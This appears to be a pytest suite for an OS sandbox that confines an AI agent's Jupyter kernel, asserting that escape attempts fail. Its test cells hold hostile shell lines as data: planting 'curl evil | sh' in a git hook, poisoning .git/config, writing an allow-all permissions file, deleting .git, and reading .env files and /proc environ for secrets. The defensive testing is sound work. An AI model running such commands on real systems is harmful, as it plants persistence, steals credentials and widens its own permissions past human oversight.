"""The OS sandbox, tried the way an agent would: a shell line, ctypes, a subprocess, Python's own
bypasses. Every outcome is judged from outside the kernel: the file on disk, the server's count,
the process table. Loopback only.

The same routes run in the fallback mode in ``test_sandbox_fallback.py``, which asserts exactly what
that mode stops, and both files run again as an unprivileged user (``test_sandbox_as_nobody.py``).
"""

from __future__ import annotations

import contextlib
import os
import re
import signal
import stat
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest
from conftest import PYTHON, SANDBOXED_KERNEL, gone, wait_until
from console import jupyter_console
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.manager import KernelManager
from kernel_helpers import execute
from sandbox_cases import (
    SECRET,
    counting_http,
    sh,
    started_kernel,
    tcp_and_udp,
    try_network_routes,
    try_unix_sockets,
    unix_servers,
)
from servers import person_http_server

from ivralo_kernel.host.sandbox.egress import untrusted_note


@pytest.fixture
def km(workspace: Path) -> Iterator[KernelManager]:
    manager = KernelManager(kernel_name=SANDBOXED_KERNEL)
    manager.start_kernel(cwd=str(workspace))
    yield manager
    if manager.has_kernel:
        manager.shutdown_kernel(now=True)


@pytest.fixture
def sandboxed(kc: BlockingKernelClient, km: KernelManager) -> BlockingKernelClient:
    layers = kc.kernel_info(reply=True, timeout=30)["content"]["ivralo"]["layers"]
    assert layers["sandbox"].startswith("bwrap"), f"the kernel is not in the sandbox: {layers['sandbox']}"
    return kc


def test_the_kernel_lives_in_namespaces_of_its_own(sandboxed: BlockingKernelClient, km: KernelManager) -> None:
    provisioner = km.provisioner
    kernel = provisioner.host_pid(int(sandboxed.kernel_info(reply=True)["content"]["ivralo"]["pid"]))
    for ns in ("net", "pid", "mnt", "ipc", "uts"):
        assert os.readlink(f"/proc/{kernel}/ns/{ns}") != os.readlink(f"/proc/self/ns/{ns}"), ns
    # The kernel's channels are unix sockets in its own run folder; clients reach them through the relay.
    inner = provisioner.relay and provisioner._kernel_side
    assert inner and inner["transport"] == "ipc", inner
    for port in range(1, 6):
        assert stat.S_ISSOCK(os.stat(f"{inner['ip']}-{port}").st_mode)


@pytest.fixture
def repo_workspace(workspace: Path) -> Path:
    """A workspace that is a git repository with an .ivralo folder and a databases.json, made before
    the kernel starts (closed paths are the ones that exist at start)."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (workspace / ".ivralo").mkdir(exist_ok=True)
    (workspace / "databases.json").write_text("{}\n")
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "tasks.json").write_text("{}\n")
    return workspace


@pytest.fixture
def repo_kc(repo_workspace: Path) -> Iterator[BlockingKernelClient]:
    with started_kernel(SANDBOXED_KERNEL, repo_workspace) as (_, client):
        yield client


def test_closed_paths_stay_closed_to_a_shell_and_to_dir_fd(repo_kc: BlockingKernelClient, repo_workspace: Path) -> None:
    ws = repo_workspace
    before = {p: p.read_bytes() for p in (ws / ".git" / "config", ws / "databases.json", ws / ".vscode" / "tasks.json")}
    said = sh(
        repo_kc,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config;"
        'echo \'{"hosts": {"allow": ["*"]}}\' > .ivralo/permissions.json;'
        "echo '{\"evil\": 1}' > databases.json; echo '{}' > .vscode/tasks.json; rm -rf .git; mv .ivralo .x",
    )
    # Python's known way around the audit hook: a path relative to a directory descriptor.
    done = execute(
        repo_kc,
        "import os\nfd = os.open('.git', os.O_RDONLY)\n"
        "try:\n    w = os.open('config', os.O_WRONLY | os.O_APPEND, dir_fd=fd); os.write(w, b'evil'); print('wrote')\n"
        "except OSError as e:\n    print(type(e).__name__, e.errno)",
    )
    assert not (ws / ".git" / "hooks" / "pre-commit").exists(), said
    assert not (ws / ".ivralo" / "permissions.json").exists(), said
    assert not (ws / ".x").exists()
    for path, content in before.items():
        assert path.read_bytes() == content, f"{path} changed: {said}"
    assert "wrote" not in done.stdout, done.stdout
    assert (ws / "ok.txt").exists() is False
    assert sh(repo_kc, "echo fine > ok.txt && cat ok.txt").strip() == "fine"
    assert (ws / "ok.txt").read_text() == "fine\n", "the rest of the workspace stays writable"


def test_a_linked_worktree_keeps_its_git_folders_closed(workspace: Path, tmp_path: Path) -> None:
    main = tmp_path / "main-repo"
    subprocess.run(["git", "init", "-q", str(main)], check=True)
    env = dict(
        os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@t", GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@t"
    )
    subprocess.run(["git", "-C", str(main), "commit", "-q", "--allow-empty", "-m", "init"], check=True, env=env)
    worktree = workspace / "wt"
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(worktree)], check=True)
    config = (main / ".git" / "config").read_bytes()
    with started_kernel(SANDBOXED_KERNEL, worktree) as (_, client):
        said = sh(
            client,
            'echo evil > "$(git rev-parse --git-common-dir)/hooks/post-checkout";'
            'echo evil >> "$(git rev-parse --git-common-dir)/config";'
            'echo evil > "$(git rev-parse --git-dir)/commondir"',
        )
    assert not (main / ".git" / "hooks" / "post-checkout").exists(), said
    assert (main / ".git" / "config").read_bytes() == config, said
    assert (main / ".git" / "worktrees" / "wt" / "commondir").read_text().strip() == "../..", said


def test_dotenv_files_read_empty(workspace: Path) -> None:
    (workspace / ".env").write_text(f"ACME_API_KEY={SECRET}\n")
    (workspace / "sub").mkdir()
    (workspace / "sub" / ".env").write_text(f"OTHER={SECRET}\n")
    with started_kernel(SANDBOXED_KERNEL, workspace) as (_, client):
        sh(client, "cat .env sub/.env > leaked.txt 2>&1; python3 -I -c 'print(open(\".env\").read())' >> leaked.txt")
    assert SECRET not in (workspace / "leaked.txt").read_text()
    assert SECRET in (workspace / ".env").read_text(), "the file itself is untouched"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root's sandbox is closed out of folders the host can enter")
def test_a_dotenv_in_another_users_private_folder_does_not_stop_the_start(workspace: Path) -> None:
    """A person starting from a folder that holds another user's private one (``/tmp`` with its
    ``pytest-of-nobody``, ``/home``): the sandbox cannot enter it, so a mask of a ``.env`` in there
    made bwrap fail and the kernel died before ``kernel_info``. Its ``.env`` stays out of reach."""
    private = workspace / "theirs"
    private.mkdir()
    (private / ".env").write_text(f"ACME_API_KEY={SECRET}\n")
    os.chown(private, 65534, 65534)
    private.chmod(0o700)
    (workspace / ".env").write_text(f"OTHER={SECRET}\n")
    with started_kernel(SANDBOXED_KERNEL, workspace) as (_, client):
        sh(client, "cat .env theirs/.env > leaked.txt 2>&1")
    leaked = (workspace / "leaked.txt").read_text()
    assert SECRET not in leaked
    assert "theirs/.env: Permission denied" in leaked, leaked


def test_the_hosts_process_environments_and_tmp_files_are_out_of_reach(
    sandboxed: BlockingKernelClient, workspace: Path
) -> None:
    holder = subprocess.Popen(["sleep", "300"], env=dict(os.environ, ACME_API_KEY=SECRET))
    try:
        sh(
            sandboxed,
            f"cat /proc/{holder.pid}/environ > leaked.txt 2>&1; cat /proc/{os.getpid()}/environ >> leaked.txt 2>&1;"
            "for f in /proc/*/environ; do cat $f; done >> leaked.txt 2>/dev/null; true",
        )
    finally:
        holder.kill()
        holder.wait()
    assert SECRET not in (workspace / "leaked.txt").read_text(errors="replace")
    # The kernel's /tmp, /var/tmp and /run are its own: a person's file in the host's /tmp is a
    # FileNotFoundError that says so and how to share a file; a file missing in the workspace is not.
    host_file = Path("/tmp") / f"ivralo-host-{uuid.uuid4().hex}.csv"  # the host's /tmp itself
    host_file.write_text("a,b\n1,2\n")
    try:
        said = {}
        for path in (str(host_file), "/var/tmp/ivralo-nothing-here", "/run/ivralo-nothing-here", "missing.csv"):
            error = next(m for m in execute(sandboxed, f"open({path!r})").outputs if m["msg_type"] == "error")
            assert error["content"]["ename"] == "FileNotFoundError", error
            said[path] = error["content"]["traceback"][-1]
        assert host_file.exists()  # the host's file is there, outside
    finally:
        host_file.unlink()
    for path, folder in (
        (str(host_file), "/tmp"),
        ("/var/tmp/ivralo-nothing-here", "/var/tmp"),
        ("/run/ivralo-nothing-here", "/run"),
    ):
        assert said[path] == (
            f"ivralo: {path} is not there because this kernel's {folder} is its own: the sandbox gives the kernel "
            "empty /tmp, /var/tmp and /run folders, so files in the host's are not visible in it (and what the "
            f"kernel writes there goes with it). To share a file with the kernel, put it in the workspace "
            f"({workspace.resolve()}) and open it from there."
        )
    assert "ivralo:" not in said["missing.csv"] and "missing.csv" in said["missing.csv"]


def test_no_unix_socket_of_the_machine_is_reachable(sandboxed: BlockingKernelClient) -> None:
    with unix_servers() as (addresses, counters):
        said = try_unix_sockets(sandboxed, addresses)
    assert [c.hits for c in counters] == [0, 0, 0], said


def test_direct_network_routes_are_closed(sandboxed: BlockingKernelClient) -> None:
    with tcp_and_udp() as (tcp_port, udp_port, tcp_hits, udp_hits):
        said = try_network_routes(sandboxed, tcp_port, udp_port)
    assert tcp_hits.hits == 0 and udp_hits.hits == 0, said
    assert "curl via proxy 0 ivralo refused 127.0.0.1" in said, said


def test_a_setsid_child_ends_with_a_killed_supervisor(sandboxed: BlockingKernelClient, km: KernelManager) -> None:
    done = execute(sandboxed, "import subprocess\nd = subprocess.Popen(['setsid', 'sleep', '300'])\nprint('ok')")
    assert done.stdout == "ok\n"
    root = km.provisioner.process.pid

    def daemons() -> list[int]:
        found = []
        for proc in psutil.Process(root).children(recursive=True):
            with contextlib.suppress(psutil.Error):
                if proc.cmdline() == ["sleep", "300"]:
                    found.append(proc.pid)
        return found

    wait_until(lambda: bool(daemons()), 10, "the setsid child to appear")
    daemon = daemons()[0]
    supervisor = km.provisioner.supervisor_pid()
    assert supervisor is not None
    os.kill(supervisor, signal.SIGKILL)
    wait_until(lambda: gone(daemon), 1.0, "the setsid child to be gone after the supervisor's SIGKILL")


def test_no_signal_reaches_outside_and_no_metadata_changes(sandboxed: BlockingKernelClient, tmp_path: Path) -> None:
    outside = Path.home() / ".cache" / "ivralo-tests" / uuid.uuid4().hex
    outside.mkdir(parents=True)
    target = outside / "file.txt"
    target.write_text("x")
    os.chmod(target, 0o644)
    os.utime(target, (1_000_000_000, 1_000_000_000))
    hidden = tmp_path / "outside.txt"  # under /tmp: not even visible inside
    hidden.write_text("x")
    os.utime(hidden, (1_000_000_000, 1_000_000_000))
    victim = subprocess.Popen(["sleep", "300"])
    try:
        for path in (target, hidden):
            sh(sandboxed, f"chmod 777 {path}; touch {path}; chown 65534 {path}; kill -TERM {victim.pid}")
            execute(
                sandboxed,
                f"import os\nfor f in (lambda: os.chmod({str(path)!r}, 0o777), lambda: os.utime({str(path)!r}), "
                f"lambda: os.kill({victim.pid}, 15)):\n    try: f()\n    except OSError: pass",
            )
        assert victim.poll() is None, "a process outside the sandbox was signalled"
        for path in (target, hidden):
            st = path.stat()
            assert (st.st_mode & 0o777, st.st_mtime, st.st_uid) == (0o644, 1_000_000_000, os.getuid()), path
    finally:
        victim.kill()
        victim.wait()
        target.unlink()
        outside.rmdir()


async def test_a_start_that_must_have_the_sandbox_says_so(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``sandbox='required'`` where no bwrap can be found refuses to start, saying why."""
    from ivralo_kernel.host.jupyter.manager import IvraloKernelManager
    from ivralo_kernel.host.sandbox import bwrap as sandbox_module

    monkeypatch.setattr(sandbox_module, "bwrap_candidates", list)  # a machine without bubblewrap
    manager = IvraloKernelManager.for_settings(python=PYTHON, sandbox="required")
    with pytest.raises(RuntimeError, match=r"must run in an OS sandbox \(sandbox='required'\), but bubblewrap"):
        await manager.start_kernel(cwd=str(workspace))
    assert not manager.has_kernel


def fetch_in_python(port: int, path: str) -> str:
    url = f"http://localhost:{port}{path}"
    return f"import urllib.request\nprint(urllib.request.urlopen({url!r}, timeout=30).read().decode())"


def fetch_in_subprocess(port: int, path: str) -> str:
    child = f"import urllib.request; print(urllib.request.urlopen('http://localhost:{port}{path}', timeout=30).status)"
    return (
        "import subprocess\n"
        f"r = subprocess.run(['python3', '-I', '-c', {child!r}], capture_output=True, text=True)\n"
        "print(r.stdout.strip() or r.stderr.strip().splitlines()[-1])"
    )


@pytest.mark.parametrize("answer", ["yes", "no"])
async def test_a_person_s_answer_through_session_counts_at_once(workspace: Path, answer: str) -> None:
    """No host allowed before the start, a random port: "yes" reaches the server from the kernel's
    Python and from a subprocess of the cell, with no restart; "no" reaches nothing."""
    from ivralo_kernel.host import Session, WorkerConfig

    asked: list[str] = []

    async def ask(question: str, choices: tuple[str, ...]) -> str:
        asked.append(question)
        return answer

    with counting_http() as (port, hits):
        config = WorkerConfig(sandbox="required")
        async with Session(workspace=workspace, ask=ask, config=config) as session:
            first = await session.run(fetch_in_python(port, "/from-python"))
            second = await session.run(fetch_in_subprocess(port, "/from-subprocess"))
    if answer == "yes":
        assert hits == ["/from-python", "/from-subprocess"], (first, second)
        assert isinstance(first, str) and first.startswith("hello from the host"), first
        assert "[ivralo network: localhost allowed until this kernel restarts]" in first
        assert isinstance(second, str) and second.startswith("200"), second
        note = untrusted_note(os.path.realpath(workspace))
        assert asked == [f"Code in run_python wants to reach localhost, this machine, port {port}{note}"], "asked once"
    else:
        assert hits == [], (first, second)
        assert isinstance(first, dict) and "403" in first["error"] and "the person said no" in first["error"]
        assert "403" in str(second) and "Forbidden by ivralo" in str(second)


@pytest.mark.parametrize("answer", ["yes", "no"])
def test_jupyter_console_asks_for_a_subprocess_too(workspace: Path, answer: str) -> None:
    """In ``jupyter console``, curl in a cell is asked about at the console's prompt."""
    import pexpect

    with counting_http() as (port, hits), jupyter_console(SANDBOXED_KERNEL, workspace) as child:
        child.sendline(f"!curl -sS http://localhost:{port}/from-curl")
        note = re.escape(untrusted_note(os.path.realpath(workspace)))
        asked = rf"Code in this cell wants to reach localhost, this machine, port {port}{note}\. Allow\? \[yes/no\] "
        child.expect(asked)
        child.sendline(answer)
        child.expect("hello from the host" if answer == "yes" else "the person said no")
        child.expect(r"In \[3\]: ")
        child.sendline("exit")
        child.expect(pexpect.EOF)
    assert hits == (["/from-curl"] if answer == "yes" else [])


PROXIED_CLIENTS = {
    "urllib": "import urllib.request\nprint(urllib.request.urlopen('http://localhost:{port}/{path}').status)",
    "requests": "import requests\nprint(requests.get('http://localhost:{port}/{path}', timeout=10).status_code)",
    "httpx": "import httpx\nprint(httpx.get('http://localhost:{port}/{path}', timeout=10).status_code)",
}
DIRECT_CLIENTS = {
    "asyncio": "import asyncio\nr, w = await asyncio.open_connection('example.invalid', {port})",
    "socket": "import socket\nsocket.create_connection(('example.invalid', {port}), timeout=5)",
}


@pytest.mark.parametrize("client", PROXIED_CLIENTS)
async def test_http_clients_go_through_the_proxy_to_an_allowed_host(workspace: Path, client: str) -> None:
    from ivralo_kernel.host import Session, WorkerConfig

    with counting_http() as (port, hits):
        (workspace / ".ivralo").mkdir()
        (workspace / ".ivralo" / "permissions.json").write_text(f'{{"hosts": {{"allow": ["localhost:{port}"]}}}}')
        async with Session(workspace=workspace, config=WorkerConfig(sandbox="required")) as session:
            result = await session.run(PROXIED_CLIENTS[client].format(port=port, path=client))
    assert hits == [f"/{client}"], result
    assert result == "200\n[ivralo network: localhost allowed (hosts.allow)]\n"


@pytest.mark.parametrize("client", PROXIED_CLIENTS)
async def test_http_clients_are_refused_with_the_reason_when_nobody_can_be_asked(workspace: Path, client: str) -> None:
    from ivralo_kernel.host import Session, WorkerConfig

    with counting_http() as (port, hits):
        async with Session(workspace=workspace, config=WorkerConfig(sandbox="required")) as session:
            result = await session.run(PROXIED_CLIENTS[client].format(port=port, path=client))
    assert hits == [], result
    if client == "urllib":  # raises for a 403; requests and httpx hand the 403 response back
        assert isinstance(result, dict), result
        assert "HTTP Error 403: Forbidden by ivralo: localhost refused (nobody to ask)" in result["error"]
        assert "[ivralo network: localhost refused (nobody to ask)]" in result["result"]
    else:
        assert result == "403\n[ivralo network: localhost refused (nobody to ask)]\n"


@pytest.mark.parametrize("client", DIRECT_CLIENTS)
async def test_a_direct_connection_is_refused_saying_what_works(workspace: Path, client: str) -> None:
    from ivralo_kernel.host import Session, WorkerConfig

    async with Session(workspace=workspace, config=WorkerConfig(sandbox="required")) as session:
        result = await session.run(DIRECT_CLIENTS[client].format(port=5432))
    assert isinstance(result, dict), result
    error = result["error"]
    assert "example.invalid cannot be reached by a direct connection" in error, error
    assert "HTTP and HTTPS go through ivralo's proxy" in error and "ivralo.sql" in error
    assert "[ivralo network: example.invalid refused (no direct network in the sandbox)]" in result["result"]


def test_the_kernel_holds_none_of_the_hosts_descriptors(sandboxed: BlockingKernelClient, km: KernelManager) -> None:
    """Its stdout and stderr are pipes the host drains; what a cell writes there reaches the host's
    own stream as text, without control characters."""
    kernel = km.provisioner.host_pid(int(sandboxed.kernel_info(reply=True)["content"]["ivralo"]["pid"]))
    launched = km.provisioner.process.pid  # everything in the sandbox got its descriptors from it
    ours = {os.readlink(f"/proc/self/fd/{fd}") for fd in (0, 1, 2)}
    for pid in (launched, km.provisioner.supervisor_pid(), kernel):
        for fd in (1, 2):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except PermissionError:  # not dumpable (the supervisor and kernel): only root may look
                assert pid != launched and os.geteuid() != 0, (pid, fd)
                continue
            assert target.startswith("pipe:") and target not in ours, (pid, fd, target)


def test_pip_download_from_a_local_index_is_asked_about(workspace: Path, tmp_path: Path) -> None:
    """``pip download`` in a subprocess of the cell, from an index on the person's machine: asked at
    the agent's ``ask``; "yes" fetches the wheel (judged by the index server's log and the file)."""
    import asyncio
    import http.server
    import sys
    import threading
    from functools import partial

    from test_frontend_features import _tiny_wheel

    from ivralo_kernel.host import Session, WorkerConfig

    index = tmp_path / "index"
    (index / "simple" / "ivralo-tiny").mkdir(parents=True)
    wheel = _tiny_wheel(index)
    (index / "simple" / "ivralo-tiny" / "index.html").write_text(f'<a href="../../{wheel.name}">{wheel.name}</a>\n')
    hits: list[str] = []

    class Index(http.server.SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            super().do_GET()

        def log_message(self, *args: object) -> None:
            pass

    httpd = person_http_server(partial(Index, directory=str(index)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    port = int(httpd.server_address[1])
    asked: list[str] = []

    async def ask(question: str, choices: tuple[str, ...]) -> str:
        asked.append(question)
        return "yes"

    code = (
        "import subprocess, sys\n"
        f"r = subprocess.run([{sys.executable!r}, '-m', 'pip', 'download', '--no-deps', '--no-cache-dir', "
        f"'--index-url', 'http://localhost:{port}/simple', '-d', 'wheels', 'ivralo-tiny'],\n"
        "    capture_output=True, text=True)\n"
        "print(r.returncode, r.stderr.strip()[-300:])"
    )

    async def run() -> object:
        async with Session(workspace=workspace, ask=ask, config=WorkerConfig(sandbox="required")) as session:
            return await session.run(code)

    try:
        result = asyncio.run(run())
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert isinstance(result, str) and result.startswith("0 "), result
    note = untrusted_note(os.path.realpath(workspace))
    assert asked == [f"Code in run_python wants to reach localhost, this machine, port {port}{note}"], asked
    assert "/simple/ivralo-tiny/" in hits and f"/{wheel.name}" in hits, hits
    assert (workspace / "wheels" / wheel.name).read_bytes() == wheel.read_bytes()
